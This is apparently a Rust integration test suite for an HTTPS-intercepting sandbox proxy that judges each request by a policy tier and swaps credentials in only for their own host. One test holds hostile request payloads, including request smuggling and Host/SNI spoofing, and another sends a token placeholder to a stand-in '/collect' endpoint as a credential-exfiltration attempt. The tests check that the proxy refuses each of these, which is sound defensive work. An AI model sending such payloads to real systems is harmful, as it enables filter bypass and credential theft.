//! HTTPS interception end to end: a real TLS upstream on loopback (HTTP/1.1 and HTTP/2 by
//! ALPN, its certificate from a test CA given as `upstream_ca`), the real proxy with a per-run
//! CA and a judge that classifies each request with the built-in governance file at granted
//! tier `auto`, and real clients (curl, Python, Node) trusting the run's bundle.

use bytes::Bytes;
use http_body_util::{BodyExt, Full};
use hyper::body::Incoming;
use hyper::service::service_fn;
use hyper::{Request, Response};
use hyper_util::rt::{TokioExecutor, TokioIo};
use rcgen::{BasicConstraints, CertificateParams, CertifiedIssuer, IsCa, KeyPair};
use std::convert::Infallible;
use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::{Arc, Mutex};
use warden_policy::{Action, Context, Policy, Tier};
use warden_proxy::{
    CertificateAuthority, Handling, Judge, JudgeFuture, Judgement, Listen, NetRequest,
    NetworkEvent, ProxyConfig, ProxyHandle, spawn_judged,
};

const HOST: &str = "up.warden-test.invalid";

/// What the upstream saw of one request.
#[derive(Debug, Clone)]
struct Seen {
    method: String,
    path: String,
    version: String,
    host: Option<String>,
    authorization: Option<String>,
}

/// A test certificate authority and a leaf for `names`.
struct TestCa {
    pem: String,
    chain: Vec<rustls::pki_types::CertificateDer<'static>>,
    key: rustls::pki_types::PrivateKeyDer<'static>,
}

fn test_ca(names: &[&str]) -> TestCa {
    let ca_key = KeyPair::generate().unwrap();
    let mut p = CertificateParams::new(Vec::<String>::new()).unwrap();
    p.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
    p.distinguished_name
        .push(rcgen::DnType::CommonName, "warden test upstream CA");
    let ca = CertifiedIssuer::self_signed(p, ca_key).unwrap();
    let leaf_key = KeyPair::generate().unwrap();
    let leaf = CertificateParams::new(names.iter().map(|s| s.to_string()).collect::<Vec<_>>())
        .unwrap()
        .signed_by(&leaf_key, &ca)
        .unwrap();
    TestCa {
        pem: ca.pem(),
        chain: vec![leaf.der().clone(), ca.der().clone()],
        key: rustls::pki_types::PrivateKeyDer::Pkcs8(leaf_key.serialize_der().into()),
    }
}

/// A TLS upstream speaking HTTP/1.1 or HTTP/2 (ALPN); each answer names what it saw.
struct TlsUpstream {
    addr: SocketAddr,
    seen: Arc<Mutex<Vec<Seen>>>,
    _rt: tokio::runtime::Runtime,
}

fn tls_upstream(ca: &TestCa) -> TlsUpstream {
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()
        .unwrap();
    let mut cfg = rustls::ServerConfig::builder_with_provider(Arc::new(
        rustls::crypto::ring::default_provider(),
    ))
    .with_safe_default_protocol_versions()
    .unwrap()
    .with_no_client_auth()
    .with_single_cert(ca.chain.clone(), ca.key.clone_key())
    .unwrap();
    cfg.alpn_protocols = vec![b"h2".to_vec(), b"http/1.1".to_vec()];
    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(cfg));
    let listener = rt
        .block_on(tokio::net::TcpListener::bind((Ipv4Addr::LOCALHOST, 0)))
        .unwrap();
    let addr = listener.local_addr().unwrap();
    let seen: Arc<Mutex<Vec<Seen>>> = Arc::default();
    let seen2 = seen.clone();
    rt.spawn(async move {
        loop {
            let Ok((s, _)) = listener.accept().await else {
                return;
            };
            let acceptor = acceptor.clone();
            let seen = seen2.clone();
            tokio::spawn(async move {
                let Ok(tls) = acceptor.accept(s).await else {
                    return;
                };
                let h2 = tls.get_ref().1.alpn_protocol() == Some(b"h2");
                let svc = service_fn(move |req: Request<Incoming>| {
                    let seen = seen.clone();
                    async move {
                        let s = Seen {
                            method: req.method().to_string(),
                            path: req.uri().path().to_string(),
                            version: format!("{:?}", req.version()),
                            host: req
                                .headers()
                                .get("host")
                                .and_then(|v| v.to_str().ok())
                                .map(str::to_owned)
                                .or_else(|| req.uri().authority().map(|a| a.to_string())),
                            authorization: req
                                .headers()
                                .get("authorization")
                                .and_then(|v| v.to_str().ok())
                                .map(str::to_owned),
                        };
                        let body = req.into_body().collect().await.map(|b| b.to_bytes());
                        let text = format!(
                            "{} {} {} {} bytes\n",
                            s.method,
                            s.path,
                            s.version,
                            body.map(|b| b.len()).unwrap_or(0)
                        );
                        seen.lock().unwrap().push(s);
                        Ok::<_, Infallible>(Response::new(Full::new(Bytes::from(text))))
                    }
                });
                let io = TokioIo::new(tls);
                if h2 {
                    let _ = hyper::server::conn::http2::Builder::new(TokioExecutor::new())
                        .serve_connection(io, svc)
                        .await;
                } else {
                    let _ = hyper::server::conn::http1::Builder::new()
                        .serve_connection(io, svc)
                        .await;
                }
            });
        }
    });
    TlsUpstream {
        addr,
        seen,
        _rt: rt,
    }
}

/// Classifies each request with the built-in governance file; proceeds up to `granted`.
struct PolicyJudge {
    policy: Policy,
    granted: Tier,
}

impl Judge for PolicyJudge {
    fn judge<'a>(&'a self, r: &'a NetRequest) -> JudgeFuture<'a> {
        let action = Action::Net {
            host: r.host.clone(),
            port: Some(r.port),
            method: r.method.clone(),
            path: r.path.clone(),
            service: r.service.clone(),
        };
        let ctx = Context {
            workspace: PathBuf::from("/w"),
            cwd: PathBuf::from("/w"),
            home: PathBuf::from("/h"),
            sandboxed: true,
        };
        let d = self.policy.classify(&action, &ctx);
        let granted = self.granted;
        Box::pin(async move {
            if let Some(t) = r.credential_tier.filter(|t| *t > granted) {
                return Judgement::Refuse {
                    rule: "credential-tier".into(),
                    tier: Some(t),
                    reason: format!(
                        "the request carries {:?}, released from tier {t} on; granted {granted}",
                        r.credentials
                    ),
                };
            }
            if d.tier <= granted {
                Judgement::Proceed {
                    rule: d.rule,
                    tier: Some(d.tier),
                }
            } else {
                Judgement::Refuse {
                    reason: format!(
                        "{} is {} by rule `{}`, above the granted tier {granted}; ask for approval",
                        r.method.as_deref().unwrap_or("request"),
                        d.tier,
                        d.rule
                    ),
                    rule: d.rule,
                    tier: Some(d.tier),
                }
            }
        })
    }
}

struct Setup {
    proxy: ProxyHandle,
    events: Arc<Mutex<Vec<NetworkEvent>>>,
    bundle: PathBuf,
    upstream_ca: PathBuf,
    _dir: tempfile::TempDir,
}

impl Setup {
    fn proxy_url(&self) -> String {
        format!("http://{}", self.proxy.tcp_addr().unwrap())
    }

    fn events(&self) -> Vec<NetworkEvent> {
        self.events.lock().unwrap().clone()
    }
}

/// The proxy with a per-run CA, `HOST` pinned to loopback and allowed on any port, the test
/// CA as upstream trust, and `configure` for the rest.
fn setup(up_ca: &TestCa, configure: impl FnOnce(&mut ProxyConfig)) -> Setup {
    let dir = tempfile::tempdir().unwrap();
    let ca = Arc::new(CertificateAuthority::generate().unwrap());
    let bundle = dir.path().join("bundle.pem");
    std::fs::write(&bundle, ca.trust_bundle_pem()).unwrap();
    let upstream_ca = dir.path().join("upstream-ca.pem");
    std::fs::write(&upstream_ca, &up_ca.pem).unwrap();
    let mut cfg = ProxyConfig::new();
    cfg.allow(&format!("{HOST}:*")).unwrap();
    cfg.allow_private(HOST).unwrap();
    cfg.resolve_override(HOST, vec![Ipv4Addr::LOCALHOST.into()])
        .unwrap();
    cfg.upstream_ca = warden_proxy::read_pem_certs(&upstream_ca).unwrap();
    cfg.ca = Some(ca);
    configure(&mut cfg);
    let events: Arc<Mutex<Vec<NetworkEvent>>> = Arc::default();
    let sink = events.clone();
    let judge = Arc::new(PolicyJudge {
        policy: Policy::builtin(),
        granted: Tier::Auto,
    });
    let proxy = spawn_judged(
        Listen::Tcp((Ipv4Addr::LOCALHOST, 0).into()),
        cfg,
        Arc::new(move |e| sink.lock().unwrap().push(e)),
        judge,
    )
    .unwrap();
    Setup {
        proxy,
        events,
        bundle,
        upstream_ca,
        _dir: dir,
    }
}

/// Runs curl through the proxy; returns (HTTP status, body, stderr).
fn curl(s: &Setup, cafile: &Path, args: &[&str]) -> (u16, String, String) {
    let out = Command::new("curl")
        .args(["-sS", "--max-time", "20", "-o", "-", "-w", "\n%{http_code}"])
        .args(["--proxy", &s.proxy_url(), "--cacert"])
        .arg(cafile)
        .args(args)
        .env_remove("https_proxy")
        .env_remove("HTTPS_PROXY")
        .output()
        .expect("curl runs");
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    let (body, code) = text.rsplit_once('\n').unwrap_or(("", "0"));
    (
        code.trim().parse().unwrap_or(0),
        body.to_string(),
        String::from_utf8_lossy(&out.stderr).to_string(),
    )
}

fn url(up: &TlsUpstream, path: &str) -> String {
    format!("https://{HOST}:{}{path}", up.addr.port())
}

#[test]
fn curl_get_is_intercepted_over_http1_and_http2_and_judged_with_its_path() {
    let ca = test_ca(&[HOST]);
    let up = tls_upstream(&ca);
    let s = setup(&ca, |_| {});
    for (flag, version) in [("--http1.1", "HTTP/1.1"), ("--http2", "HTTP/2.0")] {
        let (code, body, err) = curl(&s, &s.bundle, &[flag, &url(&up, "/o/r?token=abc")]);
        assert_eq!(code, 200, "{flag}: {body} {err}");
        assert_eq!(body.trim(), format!("GET /o/r {version} 0 bytes"), "{flag}");
    }
    let ev = s.events();
    let requests: Vec<_> = ev
        .iter()
        .filter(|e| e.protocol == warden_proxy::Protocol::Https)
        .collect();
    assert_eq!(requests.len(), 2, "{ev:#?}");
    for e in requests {
        assert!(e.allowed);
        assert_eq!(e.handling, Handling::Intercepted);
        assert_eq!(e.method.as_deref(), Some("GET"));
        // The query (which may hold a secret) is not recorded.
        assert_eq!(e.path.as_deref(), Some("/o/r"));
        assert_eq!(e.tier, Some(Tier::Auto));
    }
}

#[test]
fn post_above_the_granted_tier_is_refused_with_a_reason_and_never_reaches_the_upstream() {
    let ca = test_ca(&[HOST]);
    let up = tls_upstream(&ca);
    let s = setup(&ca, |_| {});
    for flag in ["--http1.1", "--http2"] {
        let (code, body, _) = curl(
            &s,
            &s.bundle,
            &[flag, "-X", "POST", "-d", "x=1", &url(&up, "/api/things")],
        );
        assert_eq!(code, 403, "{body}");
        assert_eq!(body.lines().count(), 1, "one line: {body}");
        assert!(
            body.contains("net.http-write-method") && body.contains("async"),
            "{body}"
        );
    }
    // git push over smart HTTP: the ref advertisement for receive-pack is already refused.
    let (code, body, _) = curl(
        &s,
        &s.bundle,
        &[&url(&up, "/o/r.git/info/refs?service=git-receive-pack")],
    );
    assert_eq!(code, 403, "{body}");
    assert!(body.contains("net.git-push"), "{body}");
    assert!(
        up.seen.lock().unwrap().is_empty(),
        "nothing reached the upstream"
    );
    let refused: Vec<_> = s.events().into_iter().filter(|e| !e.allowed).collect();
    assert_eq!(refused.len(), 3);
    assert_eq!(refused[2].service.as_deref(), Some("git-receive-pack"));
    assert_eq!(refused[2].tier, Some(Tier::Async));
}

#[test]
fn the_run_ca_is_trusted_only_through_the_bundle() {
    let ca = test_ca(&[HOST]);
    let up = tls_upstream(&ca);
    let s = setup(&ca, |_| {});
    // The system bundle alone (what a program outside the sandbox trusts) rejects the leaf.
    let system = Path::new(warden_proxy::SYSTEM_BUNDLE_PATHS[0]);
    let (code, _, err) = curl(&s, system, &[&url(&up, "/")]);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("certificate"), "{err}");
    // The upstream's own CA does not verify the proxy's leaf either: it is the run's CA.
    let (code, _, _) = curl(&s, &s.upstream_ca, &[&url(&up, "/")]);
    assert_eq!(code, 0);
    let (code, _, err) = curl(&s, &s.bundle, &[&url(&up, "/")]);
    assert_eq!(code, 200, "{err}");
}

#[test]
fn an_upstream_that_fails_verification_is_refused_with_the_reason() {
    let ca = test_ca(&[HOST]);
    let other = test_ca(&[HOST]);
    let up = tls_upstream(&other);
    // The proxy trusts `ca`, but the upstream presents a certificate of `other`.
    let s = setup(&ca, |_| {});
    let (code, body, err) = curl(&s, &s.bundle, &[&url(&up, "/")]);
    assert_eq!(code, 502, "{body} {err}");
    assert!(body.contains("failed TLS verification"), "{body}");
    assert!(
        s.events()
            .iter()
            .any(|e| e.rule == "upstream-tls" && !e.allowed)
    );
    assert!(up.seen.lock().unwrap().is_empty());
}

#[test]
fn a_passthrough_host_is_tunnelled_without_interception() {
    let ca = test_ca(&[HOST]);
    let up = tls_upstream(&ca);
    let s = setup(&ca, |c| {
        c.passthrough(HOST).unwrap();
    });
    // The client sees the upstream's own certificate: it verifies with the upstream's CA.
    let (code, body, err) = curl(&s, &s.upstream_ca, &["-X", "POST", &url(&up, "/x")]);
    assert_eq!(code, 200, "{body} {err}");
    let ev = s.events();
    assert_eq!(ev.len(), 1, "{ev:#?}");
    assert_eq!(ev[0].handling, Handling::Passthrough);
    assert_eq!(ev[0].method, None, "judged by host alone");
}

#[test]
fn python_and_node_clients_work_through_interception() {
    let ca = test_ca(&[HOST]);
    let up = tls_upstream(&ca);
    let s = setup(&ca, |_| {});
    let target = url(&up, "/py");
    let py = Command::new("python3")
        .args([
            "-c",
            "import sys,urllib.request as u; print(u.urlopen(sys.argv[1]).read().decode().strip())",
            &target,
        ])
        .env("HTTPS_PROXY", s.proxy_url())
        .env("SSL_CERT_FILE", &s.bundle)
        .output()
        .unwrap();
    assert!(
        py.status.success(),
        "{}",
        String::from_utf8_lossy(&py.stderr)
    );
    assert_eq!(
        String::from_utf8_lossy(&py.stdout).trim(),
        "GET /py HTTP/1.1 0 bytes"
    );

    // Node's fetch has no proxy support of its own: use its https module through a CONNECT
    // tunnel, trusting the bundle via NODE_EXTRA_CA_CERTS as a sandboxed program would.
    let script = r#"
const http = require('http'), tls = require('tls');
const [proxy, host, port] = process.argv.slice(1);
const p = new URL(proxy);
http.request({host: p.hostname, port: p.port, method: 'CONNECT', path: `${host}:${port}`})
  .on('connect', (res, socket) => {
    const s = tls.connect({socket, servername: host}, () => {
      s.write(`POST /node HTTP/1.1\r\nHost: ${host}:${port}\r\nContent-Length: 2\r\nConnection: close\r\n\r\nhi`);
    });
    let out = ''; s.on('data', d => out += d); s.on('end', () => { console.log(out.split('\r\n')[0]); });
    s.on('error', e => { console.log('error ' + e.message); });
  }).end();
"#;
    let node = Command::new("node")
        .args([
            "-e",
            script,
            &s.proxy_url(),
            HOST,
            &up.addr.port().to_string(),
        ])
        .env("NODE_EXTRA_CA_CERTS", &s.bundle)
        .output()
        .unwrap();
    let out = String::from_utf8_lossy(&node.stdout);
    assert!(
        out.contains("403"),
        "node POST refused: {out} {}",
        String::from_utf8_lossy(&node.stderr)
    );
    assert_eq!(
        up.seen.lock().unwrap().len(),
        1,
        "only the GET reached the upstream"
    );
}

/// A raw client: CONNECT through the proxy, then TLS with `sni` (trusting `bundle`), then
/// `requests` written as given; returns everything read back.
fn raw_tls(s: &Setup, connect_to: &str, sni: &str, requests: &[u8]) -> String {
    let script = r#"
import socket, ssl, sys
proxy, target, sni, bundle = sys.argv[1:5]
data = sys.stdin.buffer.read()
host, port = proxy.rsplit(':', 1)
s = socket.create_connection((host, int(port)), timeout=10)
s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
head = b""
while b"\r\n\r\n" not in head:
    head += s.recv(1)
ctx = ssl.create_default_context(cafile=bundle)
ctx.check_hostname = False
try:
    t = ctx.wrap_socket(s, server_hostname=sni)
    t.sendall(data)
    out = b""
    while True:
        d = t.recv(65536)
        if not d:
            break
        out += d
    sys.stdout.write(out.decode("latin-1"))
except (ssl.SSLError, ConnectionError, OSError) as e:
    sys.stdout.write("closed: %s" % e)
"#;
    let mut child = Command::new("python3")
        .args(["-c", script])
        .arg(s.proxy.tcp_addr().unwrap().to_string())
        .arg(connect_to)
        .arg(sni)
        .arg(&s.bundle)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(requests).unwrap();
    let mut out = String::new();
    child
        .stdout
        .take()
        .unwrap()
        .read_to_string(&mut out)
        .unwrap();
    child.wait().unwrap();
    out
}

#[test]
fn adversarial_requests_are_refused_or_judged_by_the_host_contacted() {
    let ca = test_ca(&[HOST]);
    let up = tls_upstream(&ca);
    let s = setup(&ca, |c| {
        c.allow("other.warden-test.invalid:*").unwrap();
    });
    let target = format!("{HOST}:{}", up.addr.port());
    let other = format!("other.warden-test.invalid:{}", up.addr.port());

    // SNI names another host than the CONNECT: the handshake is refused.
    let out = raw_tls(
        &s,
        &target,
        "other.warden-test.invalid",
        b"GET / HTTP/1.1\r\n\r\n",
    );
    assert!(out.starts_with("closed"), "{out}");
    assert!(s.events().iter().any(|e| e.rule == "sni-mismatch"));

    // Host header names another host.
    let req = format!("GET / HTTP/1.1\r\nHost: {other}\r\nConnection: close\r\n\r\n");
    let out = raw_tls(&s, &target, HOST, req.as_bytes());
    assert!(out.starts_with("HTTP/1.1 421"), "{out}");

    // Absolute URI naming another host than Host and the tunnel.
    let req =
        format!("GET https://{other}/ HTTP/1.1\r\nHost: {target}\r\nConnection: close\r\n\r\n");
    let out = raw_tls(&s, &target, HOST, req.as_bytes());
    assert!(out.starts_with("HTTP/1.1 421"), "{out}");

    // A second request on a kept-alive connection, to another host.
    let req = format!(
        "GET /first HTTP/1.1\r\nHost: {target}\r\n\r\nGET /second HTTP/1.1\r\nHost: {other}\r\nConnection: close\r\n\r\n"
    );
    let out = raw_tls(&s, &target, HOST, req.as_bytes());
    assert!(out.starts_with("HTTP/1.1 200"), "{out}");
    assert!(out.contains("HTTP/1.1 421"), "{out}");

    // Content-Length and Transfer-Encoding together (request smuggling): the proxy frames by
    // Transfer-Encoding, re-frames what it forwards (the upstream sees no body) and closes the
    // connection after the answer, so the request hidden after the chunked end is never read.
    let req = format!(
        "GET /x HTTP/1.1\r\nHost: {target}\r\nContent-Length: 40\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nDELETE /smuggled HTTP/1.1\r\nHost: {other}\r\nConnection: close\r\n\r\n"
    );
    let out = raw_tls(&s, &target, HOST, req.as_bytes());
    assert!(out.starts_with("HTTP/1.1 200"), "{out}");
    assert!(out.contains("GET /x HTTP/1.1 0 bytes"), "{out}");
    let answers = out.lines().filter(|l| l.starts_with("HTTP/1.1 ")).count();
    assert_eq!(answers, 1, "{out}");
    assert!(
        !s.events()
            .iter()
            .any(|e| e.path.as_deref() == Some("/smuggled"))
    );

    // Oversized headers.
    let big = "a".repeat(100 * 1024);
    let req =
        format!("GET / HTTP/1.1\r\nHost: {target}\r\nX-Big: {big}\r\nConnection: close\r\n\r\n");
    let out = raw_tls(&s, &target, HOST, req.as_bytes());
    assert!(out.starts_with("HTTP/1.1 431"), "{out}");

    // HTTP/2 with an :authority naming another host (curl turns Host into :authority).
    let (code, _, _) = curl(
        &s,
        &s.bundle,
        &["--http2", "-H", &format!("Host: {other}"), &url(&up, "/h2")],
    );
    assert_eq!(code, 421);
    let (code, _, _) = curl(
        &s,
        &s.bundle,
        &[
            "--http2",
            "-H",
            &format!("X-Big: {}", "b".repeat(100 * 1024)),
            &url(&up, "/h2big"),
        ],
    );
    // HTTP/2 refuses an oversized header list in the protocol itself (the stream is reset)
    // or, under the limit of the codec, with 431.
    assert!(matches!(code, 0 | 431), "{code}");

    let paths: Vec<String> = up
        .seen
        .lock()
        .unwrap()
        .iter()
        .map(|x| x.path.clone())
        .collect();
    assert_eq!(paths, ["/first", "/x"], "only the honest requests arrived");
    for x in up.seen.lock().unwrap().iter() {
        assert_eq!(x.host.as_deref(), Some(target.as_str()));
    }
}

#[test]
fn non_tls_bytes_in_an_intercepted_tunnel_to_port_443_are_refused() {
    let ca = test_ca(&[HOST]);
    // A plain TCP server on 443 of a loopback address of our own (root can bind it).
    let ip = Ipv4Addr::new(127, 0, 44, 3);
    let Ok(listener) = std::net::TcpListener::bind((ip, 443)) else {
        eprintln!("skipped: cannot bind {ip}:443");
        return;
    };
    std::thread::spawn(move || {
        for s in listener.incoming() {
            let Ok(mut s) = s else { return };
            let _ = s.write_all(b"upstream says hi\n");
        }
    });
    let s = setup(&ca, |c| {
        c.resolve_override(HOST, vec![ip.into()]).unwrap();
    });
    let mut c = std::net::TcpStream::connect(s.proxy.tcp_addr().unwrap()).unwrap();
    c.set_read_timeout(Some(std::time::Duration::from_secs(10)))
        .unwrap();
    write!(c, "CONNECT {HOST}:443 HTTP/1.1\r\nHost: {HOST}:443\r\n\r\nGET / HTTP/1.1\r\nHost: {HOST}\r\n\r\n").unwrap();
    let mut out = Vec::new();
    let _ = c.read_to_end(&mut out);
    let out = String::from_utf8_lossy(&out);
    assert!(out.starts_with("HTTP/1.1 200"), "{out}");
    assert!(!out.contains("upstream says hi"), "{out}");
    assert!(s.events().iter().any(|e| e.rule == "not-tls" && !e.allowed));
}

const OTHER: &str = "other.warden-test.invalid";
const SECRET: &str = "ghp_realsecretrealsecretrealsecret0123";

#[test]
fn a_credential_is_swapped_in_only_for_its_host_and_refused_elsewhere() {
    let ca = test_ca(&[HOST, OTHER]);
    let up = tls_upstream(&ca);
    let mut placeholder = String::new();
    let mut pushing_placeholder = String::new();
    let s = setup(&ca, |c| {
        c.allow(&format!("{OTHER}:*")).unwrap();
        c.allow_private(OTHER).unwrap();
        c.resolve_override(OTHER, vec![Ipv4Addr::LOCALHOST.into()])
            .unwrap();
        let cred = warden_proxy::Credential::new(
            "forge-token",
            &[HOST.to_string()],
            SECRET.into(),
            "GH_TOKEN",
            Tier::Auto,
        )
        .unwrap();
        let push = warden_proxy::Credential::new(
            "push-token",
            &[HOST.to_string()],
            "glpat-pushpushpushpushpush".into(),
            "GL_TOKEN",
            Tier::Async,
        )
        .unwrap();
        placeholder = cred.placeholder.clone();
        pushing_placeholder = push.placeholder.clone();
        c.credentials = vec![cred, push];
    });
    assert!(placeholder.starts_with("ghp_") && placeholder.len() == SECRET.len());

    // Bearer and Basic (git's way), HTTP/1.1 and HTTP/2: the upstream gets the real secret.
    let bearer = format!("Authorization: Bearer {placeholder}");
    let basic = format!("x-access-token:{placeholder}");
    for args in [
        vec!["--http1.1", "-H", bearer.as_str()],
        vec!["--http2", "-u", basic.as_str()],
    ] {
        let mut a = args.clone();
        let u = url(&up, "/api");
        a.push(&u);
        let (code, body, err) = curl(&s, &s.bundle, &a);
        assert_eq!(code, 200, "{body}{err}");
    }
    let seen: Vec<Option<String>> = up
        .seen
        .lock()
        .unwrap()
        .iter()
        .map(|x| x.authorization.clone())
        .collect();
    assert_eq!(
        seen[0].as_deref(),
        Some(format!("Bearer {SECRET}").as_str())
    );
    let b64 = {
        use base64::Engine;
        base64::engine::general_purpose::STANDARD.encode(format!("x-access-token:{SECRET}"))
    };
    assert_eq!(seen[1].as_deref(), Some(format!("Basic {b64}").as_str()));

    // The same placeholder to another (allowed) host: refused, recorded, never forwarded.
    let other_url = format!("https://{OTHER}:{}/collect", up.addr.port());
    let (code, body, _) = curl(&s, &s.bundle, &["-H", &bearer, &other_url]);
    assert_eq!(code, 403, "{body}");
    assert!(body.contains("exfiltration"), "{body}");
    let q = format!("{other_url}?t={placeholder}");
    let (code, _, _) = curl(&s, &s.bundle, &[&q]);
    assert_eq!(code, 403);
    assert_eq!(
        s.events()
            .iter()
            .filter(|e| e.rule == "credential-exfiltration" && !e.allowed)
            .count(),
        2
    );

    // A credential released only from tier async on is refused at granted tier auto.
    let h = format!("PRIVATE-TOKEN: {pushing_placeholder}");
    let (code, body, _) = curl(&s, &s.bundle, &["-H", &h, &url(&up, "/api")]);
    assert_eq!(code, 403, "{body}");
    assert!(body.contains("credential-tier"), "{body}");
    assert_eq!(
        up.seen.lock().unwrap().len(),
        2,
        "only the two honest requests arrived"
    );
}

/// Holds every POST until released (what a `sync` approval does), proceeds with the rest.
struct HoldingJudge {
    release: tokio::sync::Semaphore,
}

impl Judge for HoldingJudge {
    fn judge<'a>(&'a self, r: &'a NetRequest) -> JudgeFuture<'a> {
        Box::pin(async move {
            if r.method.as_deref() == Some("POST") {
                let _ = self.release.acquire().await;
            }
            Judgement::Proceed {
                rule: "test-hold".into(),
                tier: None,
            }
        })
    }
}

#[test]
fn a_held_request_waits_for_its_judge_without_holding_up_other_requests() {
    let ca = test_ca(&[HOST]);
    let up = tls_upstream(&ca);
    let dir = tempfile::tempdir().unwrap();
    let run_ca = Arc::new(CertificateAuthority::generate().unwrap());
    let bundle = dir.path().join("bundle.pem");
    std::fs::write(&bundle, run_ca.trust_bundle_pem()).unwrap();
    let up_ca = dir.path().join("up.pem");
    std::fs::write(&up_ca, &ca.pem).unwrap();
    let mut cfg = ProxyConfig::new();
    cfg.allow(&format!("{HOST}:*")).unwrap();
    cfg.allow_private(HOST).unwrap();
    cfg.resolve_override(HOST, vec![Ipv4Addr::LOCALHOST.into()])
        .unwrap();
    cfg.upstream_ca = warden_proxy::read_pem_certs(&up_ca).unwrap();
    cfg.ca = Some(run_ca);
    let judge = Arc::new(HoldingJudge {
        release: tokio::sync::Semaphore::new(0),
    });
    let proxy = spawn_judged(
        Listen::Tcp((Ipv4Addr::LOCALHOST, 0).into()),
        cfg,
        Arc::new(|_| {}),
        judge.clone(),
    )
    .unwrap();
    let s = Setup {
        proxy,
        events: Arc::default(),
        bundle: bundle.clone(),
        upstream_ca: up_ca,
        _dir: dir,
    };
    let proxy_url = s.proxy_url();
    let post_url = url(&up, "/held");
    let held = std::thread::spawn(move || {
        Command::new("curl")
            .args([
                "-sS",
                "--max-time",
                "20",
                "-X",
                "POST",
                "-d",
                "x",
                "--proxy",
                &proxy_url,
            ])
            .arg("--cacert")
            .arg(&bundle)
            .arg(&post_url)
            .output()
            .unwrap()
    });
    // While the POST is held, a GET on another connection goes through.
    std::thread::sleep(std::time::Duration::from_millis(300));
    let (code, body, err) = curl(&s, &s.bundle, &[&url(&up, "/free")]);
    assert_eq!(code, 200, "{body}{err}");
    assert!(!held.is_finished(), "the POST is still held");
    let paths = |up: &TlsUpstream| -> Vec<String> {
        up.seen
            .lock()
            .unwrap()
            .iter()
            .map(|x| x.path.clone())
            .collect()
    };
    assert_eq!(paths(&up), ["/free"]);
    judge.release.add_permits(1);
    let out = held.join().unwrap();
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "POST /held HTTP/2.0 1 bytes\n"
    );
    assert_eq!(paths(&up), ["/free", "/held"]);
}
